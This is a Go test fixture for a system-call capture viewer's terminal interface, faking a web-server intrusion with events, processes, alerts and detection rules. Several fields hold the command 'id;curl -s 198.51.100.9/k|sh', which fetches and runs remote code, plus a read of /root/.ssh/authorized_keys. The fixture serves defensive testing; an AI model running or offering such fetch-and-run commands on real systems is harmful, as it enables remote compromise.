package tui

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"time"

	"github.com/sysreel/sysreel/query"
)

// t0 is when the fake capture begins.
var t0 = uint64(time.Date(2026, 3, 2, 12, 7, 0, 0, time.UTC).UnixNano())

// fakeStore is a small made-up capture: a shell with children that ran for ten
// seconds. slow, when set, delays every answer until it is released.
type fakeStore struct {
	events  []EventRow
	procs   []Proc
	alerts  []Alert
	info    Info
	slow    chan struct{}
	queries atomic.Int64
	hostile string // stands for every captured string of tables
}

func newFakeStore(n int) *fakeStore {
	s := &fakeStore{info: Info{Name: "web01.scap.zst", Start: t0, End: t0 + 10e9, Events: int64(n), Final: true, Percent: 100}}
	kinds := []struct{ proc, typ, args string }{
		{"nginx", "accept4", "fd=9(<4t>10.0.0.7:51022->10.0.0.4:80) queuepct=0"},
		{"nginx", "recvfrom", "res=611 data=POST /up.php HTTP/1.1.. fd=9"},
		{"sh", "execve", "res=0 exe=/bin/sh args=-c.id;curl.-s.198.51.100.9/k|sh."},
		{"curl", "connect", "res=0 tuple=10.0.0.4:40112->198.51.100.9:80 fd=3"},
		{"sh", "openat", "fd=-2(ENOENT) dirfd=-100(AT_FDCWD) name=/root/.ssh/authorized_keys"},
	}
	for i := range n {
		k := kinds[i%len(kinds)]
		row := EventRow{Num: uint64(i + 1), TS: t0 + uint64(i)*10e9/uint64(max(n, 1)), CPU: uint16(i % 2),
			Proc: k.proc, PID: int64(800 + i%len(kinds)), ProcID: 4, Type: k.typ, Args: k.args, Failed: strings.Contains(k.args, "ENOENT")}
		if i == 12 {
			row.Alert = 'C'
		}
		s.events = append(s.events, row)
	}
	s.procs = []Proc{
		{ID: 1, PID: 1, Name: "systemd", User: "root", Events: 31002},
		{ID: 2, Parent: 1, PID: 801, Name: "nginx", Cmdline: "nginx: master", User: "root", Events: 1220},
		{ID: 3, Parent: 2, PID: 812, Name: "nginx", Cmdline: "nginx: worker", User: "www-data", Events: 402118},
		{ID: 4, Parent: 3, PID: 4411, Name: "sh", Cmdline: "sh -c id;curl -s 198.51.100.9/k|sh", User: "www-data",
			Start: t0 + 2e9, End: t0 + 9e9, Events: 512, Alerts: 1, Worst: 'C'},
		{ID: 5, Parent: 4, PID: 4413, Name: "curl", Cmdline: "curl -s 198.51.100.9/k", User: "www-data", Start: t0 + 3e9, End: t0 + 4e9, Events: 117},
		{ID: 6, Parent: 1, PID: 644, Name: "sshd", User: "root", Events: 12881},
	}
	s.alerts = []Alert{{Event: 13, TS: t0 + 12*10e9/uint64(max(n, 13)), Priority: "Critical", Rule: "Run shell untrusted", Proc: "sh", PID: 4411, ProcID: 4,
		Output: "Shell spawned by untrusted binary (proc=sh parent=nginx user=www-data)", Tags: []string{"T1059.004", "process"}}}
	return s
}

func (s *fakeStore) wait(ctx context.Context) error {
	s.queries.Add(1)
	if s.slow == nil {
		return nil
	}
	select {
	case <-s.slow:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

func (s *fakeStore) Info() Info { return s.info }

func (s *fakeStore) Notify(func()) {}

// Check accepts "field = value" terms joined by and, or.
func (s *fakeStore) Check(filter string) error {
	switch {
	case strings.HasSuffix(filter, "="):
		return incomplete{errors.New("value expected")}
	case !strings.ContainsAny(filter, "=<>") && !strings.Contains(filter, " in ") && !strings.HasSuffix(filter, " exists"):
		return fmt.Errorf("unknown field %q", filter)
	}
	return nil
}

func (s *fakeStore) Fields() []string { return []string{"evt.type", "evt.time", "proc.name"} }

type fakeList struct {
	s    *fakeStore
	rows []EventRow
}

func (s *fakeStore) ColumnFields() []string { return []string{"proc.cmdline", "user.name"} }

func (s *fakeStore) Values(ctx context.Context, v view, field string) ([]ValueCount, error) {
	return []ValueCount{{s.text("accept4"), false, 40, 0}, {"connect", false, 12, 3}, {"", true, 1, 0}}, s.wait(ctx)
}

func (s *fakeStore) Export(ctx context.Context, v view) ([]string, query.RowSource, func() error, error) {
	t := &Table{Columns: []TableColumn{{Title: "num"}, {Title: "type"}}}
	for _, e := range s.events {
		t.Rows = append(t.Rows, TableRow{Cells: []any{int64(e.Num), e.Type}})
	}
	names, rows := t.source()
	return names, rows, func() error { return nil }, s.wait(ctx)
}

func (s *fakeStore) Events(v view, columns []string) EventList {
	filter, r := v.filter, v.rng
	l := &fakeList{s: s}
	for _, e := range s.events {
		for _, c := range columns {
			e.Extra = append(e.Extra, s.text("value of "+c))
		}
		if strings.Contains(filter, "evt.failed = true") && !e.Failed ||
			!r.all() && (e.TS < r.A || e.TS > r.B) ||
			strings.Contains(filter, "icontains") && e.Type != "openat" ||
			strings.Contains(filter, "evt.type = ") && !strings.Contains(filter, "evt.type = "+e.Type) {
			continue
		}
		l.rows = append(l.rows, e)
	}
	return l
}

func (l *fakeList) grow(ctx context.Context, report func(int64)) error {
	if err := l.s.wait(ctx); err != nil {
		return err
	}
	report(int64(len(l.rows)))
	return nil
}

func (l *fakeList) refine(_ context.Context, rows []EventRow) ([]EventRow, error) { return rows, nil }

func (l *fakeList) page(ctx context.Context, from int64, n int) ([]EventRow, error) {
	if err := l.s.wait(ctx); err != nil {
		return nil, err
	}
	return l.rows[min(from, int64(len(l.rows))):min(from+int64(n), int64(len(l.rows)))], nil
}

func (l *fakeList) IndexOf(_ context.Context, num uint64) (int64, error) {
	for i, r := range l.rows {
		if r.Num >= num {
			return int64(i), nil
		}
	}
	return int64(len(l.rows)) - 1, nil
}

func (s *fakeStore) Brief(ctx context.Context, num uint64) (*Detail, error) {
	return &Detail{Num: num, Title: "brief", Sections: []Section{{"Event", []DetailField{{"type", s.text("brief"), ""}}}}}, s.wait(ctx)
}

func (s *fakeStore) Detail(ctx context.Context, num uint64) (*Detail, error) {
	if err := s.wait(ctx); err != nil {
		return nil, err
	}
	if num == 0 || num > uint64(len(s.events)) {
		return nil, errNoEvent
	}
	e := s.events[num-1]
	return &Detail{Num: num, TS: e.TS, ProcID: 4, PID: e.PID, Title: e.Type, Sections: []Section{
		{"Event", []DetailField{{"time", clockMicro(e.TS), ""}, {"type", e.Type, "evt.type"}}},
		{"Process", []DetailField{{"name", e.Proc, "proc.name"}, {"pid", fmt.Sprint(e.PID), "proc.pid"}}},
		{"Parameters", []DetailField{{"args", e.Args, ""}}},
	}, Data: []byte("/bin/sh\x00-c\x00id;curl -s 198.51.100.9/k|sh\x00")}, nil
}

var errNoEvent = errors.New("no such event")

func (s *fakeStore) EventAt(_ context.Context, ts uint64) (moment, error) {
	for _, e := range s.events {
		if e.TS >= ts {
			return moment{e.Num, e.TS}, nil
		}
	}
	return moment{}, errNoEvent
}

func (s *fakeStore) Neighbour(_ context.Context, from uint64, _ int64, dir int) (moment, error) {
	for i := int(from) - 1 + dir; i >= 0 && i < len(s.events); i += dir {
		if s.events[i].PID == s.events[from-1].PID {
			return moment{s.events[i].Num, s.events[i].TS}, nil
		}
	}
	return moment{}, errNoEvent
}

func (s *fakeStore) Procs(ctx context.Context) ([]Proc, error) { return s.procs, s.wait(ctx) }

func (s *fakeStore) ProcDetail(ctx context.Context, id int64) ([]Section, error) {
	return []Section{{"Process", []DetailField{{"exe", "/bin/dash", "proc.exepath"}, {"id", fmt.Sprint(id), ""}}}}, s.wait(ctx)
}

func (s *fakeStore) OpenFDs(ctx context.Context, _ int64, _ uint64) ([]DetailField, error) {
	return []DetailField{{"0", "/dev/null", "fd.name"}, {"1", "pipe:[88121]", "fd.name"}}, s.wait(ctx)
}

// Alerts knows ranges only.
func (s *fakeStore) Alerts(ctx context.Context, v view) ([]Alert, error) {
	var out []Alert
	for _, a := range s.alerts {
		if v.rng.all() || a.TS >= v.rng.A && a.TS <= v.rng.B {
			out = append(out, a)
		}
	}
	return out, s.wait(ctx)
}

func (s *fakeStore) Files(ctx context.Context, _ view) (*Table, error) {
	t0 := int64(t0)
	return &Table{Columns: fileColumns, Rows: []TableRow{
		{Cells: []any{s.text("/etc/passwd"), "file", int64(3), int64(4096), int64(0), int64(12), int64(0), t0, t0 + 1e9}, Path: "/etc/passwd"},
		{Cells: []any{s.text("/var/log/nginx/access.log"), "file", int64(1), int64(0), int64(70_000), int64(802), int64(2), t0, t0 + 5e9}, Path: "/var/log/nginx/access.log"},
		{Cells: []any{s.text("/root/.ssh/authorized_keys"), nil, int64(0), int64(0), int64(0), int64(1), int64(1), nil, nil}, Path: "/root/.ssh/authorized_keys"},
	}}, s.wait(ctx)
}

func (s *fakeStore) FileFilter(ctx context.Context, path string) (string, error) {
	return "fd.name = " + path, s.wait(ctx)
}

func (s *fakeStore) Conns(ctx context.Context, _ view) (*Table, error) {
	t0 := int64(t0)
	return &Table{Columns: connColumns, Rows: []TableRow{
		{Cells: []any{"tcp", "client", s.text("10.0.0.4:40112->198.51.100.9:80"), s.text("curl"), int64(4413), t0 + 3e9, int64(29e6), int64(3321), int64(402), int64(9)},
			Filter: "fd.name = 10.0.0.4:40112->198.51.100.9:80", Proc: 5, Event: 4},
		{Cells: []any{"tcp", "server", s.text("10.0.0.7:51022->10.0.0.4:80"), s.text("nginx"), int64(812), t0, int64(4e9), int64(611), int64(90_000), int64(41)},
			Filter: "fd.name = 10.0.0.7:51022->10.0.0.4:80", Proc: 3, Event: 1},
	}}, s.wait(ctx)
}

// text is what a captured string is, or what the test wants it to be.
func (s *fakeStore) text(v string) string {
	if s.hostile != "" {
		return s.hostile
	}
	return v
}

func (s *fakeStore) Matching(ctx context.Context, v view) (map[int64]int64, error) {
	return map[int64]int64{5: 3}, s.wait(ctx)
}

func (s *fakeStore) Why(ctx context.Context, _ uint64, _ string) ([]TraceLine, error) {
	return []TraceLine{{0, "and", "true", ""}, {1, "spawned_process", "true", ""}, {1, "proc.name in (shell_binaries)", "true", "sh"}}, s.wait(ctx)
}

func (s *fakeStore) Lane(ctx context.Context, st stretch, term string) ([]Bucket, error) {
	if err := s.wait(ctx); err != nil {
		return nil, err
	}
	b := make([]Bucket, st.n)
	from, to := st.from, st.to
	if from == 0 && to == 0 {
		from, to = t0, t0+10e9
	}
	for i, e := range s.events {
		if e.TS < from || e.TS >= to || term != "" && i%7 != 0 {
			continue
		}
		c := &b[(e.TS-from)*uint64(st.n)/(to-from)]
		c.Events++
		if e.Failed {
			c.Failed++
		}
		if e.Alert != 0 {
			c.Alerts++
		}
	}
	return b, nil
}

func (s *fakeStore) SQL(ctx context.Context, text string) (*Table, error) {
	if strings.HasPrefix(text, "DELETE") {
		return nil, errors.New("1:1: the index is read-only here")
	}
	return &Table{Columns: []TableColumn{{Title: "proc_name", Width: 20, Field: "proc.name"}, {Title: "n", Width: 8, Right: true}, {Title: "num", Width: 5, Right: true}},
		Rows: []TableRow{{Cells: []any{s.text("nginx"), int64(402118), int64(7)}, Event: 7}, {Cells: []any{s.text("curl"), int64(3), nil}}}}, s.wait(ctx)
}

func (s *fakeStore) Saved() []SavedQuery {
	return []SavedQuery{{"summary", "what the capture holds"}, {"execs", "programs started"}}
}

func (s *fakeStore) Report(ctx context.Context, _ string) (*Table, error) { return s.SQL(ctx, "") }

func (s *fakeStore) Views() []string {
	return []string{"events(num, ts, evt_type)", "processes(id, pid, proc_name)"}
}

func (s *fakeStore) Words(prefix string) []string {
	if prefix == "proc" {
		return []string{"proc_name", "processes"}
	}
	return nil
}

func (s *fakeStore) Rules(ctx context.Context) ([]Rule, error) {
	return []Rule{
		{Name: s.text("Run shell untrusted"), Priority: "Critical", Desc: s.text("A shell was started by a server."), Condition: s.text("spawned_process and proc.name in (shell_binaries)"),
			Expanded: "evt.type in (execve, execveat) and proc.name in (sh, bash)", Place: "default/process.yaml:41", Enabled: true, Hits: 1},
		{Name: "Packet socket created", Priority: "Notice", Condition: "evt.type = socket", Expanded: "evt.type = socket", Place: "default/network.yaml:9"},
	}, s.wait(ctx)
}

func (s *fakeStore) Study(ctx context.Context, _ string) ([]string, error) {
	return []string{"60 events, 12 of the types that the rule is about", "never fired"}, s.wait(ctx)
}
